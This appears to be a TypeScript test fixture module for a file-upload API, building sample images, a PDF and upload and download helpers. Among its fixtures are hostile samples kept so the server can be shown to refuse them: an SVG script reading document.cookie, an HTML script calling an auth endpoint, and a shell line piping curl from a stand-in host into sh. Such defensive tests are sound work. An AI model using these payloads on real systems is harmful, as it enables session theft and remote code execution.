// Files made for the tests: real images built with sharp (one with EXIF GPS and a rotation), a
// minimal PDF, and active content that must be refused whatever its name says.
import sharp from 'sharp';
import type { TestClient, TestResponse } from '../../../../test/helpers/testClient.js';

export async function png(width = 800, height = 600, background = '#2a7f62'): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background } })
    .png()
    .toBuffer();
}

/** A phone photo: landscape pixels stored sideways (EXIF orientation 6), with GPS and a camera owner's name. */
export async function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 640, height: 480, channels: 3, background: '#c8a040' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Copyright: 'Nguyen Van A, Chi Lang', Make: 'PhoneMaker' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '21/1 50/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '106/1 45/1 0/1' },
    })
    .toBuffer();
}

export const pdf = (text = 'Hồ sơ gọi vốn'): Buffer =>
  Buffer.from(`%PDF-1.4\n1 0 obj\n<< /Title (${encodeURIComponent(text)}) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`);

export const svg = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>',
);
export const html = Buffer.from('<!doctype html><html><body><script>fetch("/api/auth/me")</script></body></html>');
export const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');

export function fileForm(purpose: string | null, data: Buffer, name: string, type = 'application/octet-stream'): FormData {
  const form = new FormData();
  if (purpose !== null) form.set('purpose', purpose);
  form.set('file', new Blob([new Uint8Array(data)], { type }), name);
  return form;
}

export function upload(client: TestClient, purpose: string, data: Buffer, name: string, type?: string): Promise<TestResponse> {
  return client.upload('/api/files', fileForm(purpose, data, name, type));
}

/** Upload that must succeed; returns the file's id. */
export async function uploaded(client: TestClient, purpose: string, data: Buffer, name: string): Promise<string> {
  const res = await upload(client, purpose, data, name);
  if (res.status !== 201) throw new Error(`upload failed: ${res.status} ${res.text}`);
  return res.body.id as string;
}

/** GET a file as bytes with the client's cookies (or none). */
export async function download(
  client: TestClient | null,
  baseUrl: string,
  path: string,
  headers: Record<string, string> = {},
): Promise<{ status: number; headers: Headers; bytes: Buffer }> {
  const cookie = client ? [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ') : '';
  const res = await fetch(baseUrl + path, { headers: { ...headers, ...(cookie ? { cookie } : {}) } });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}
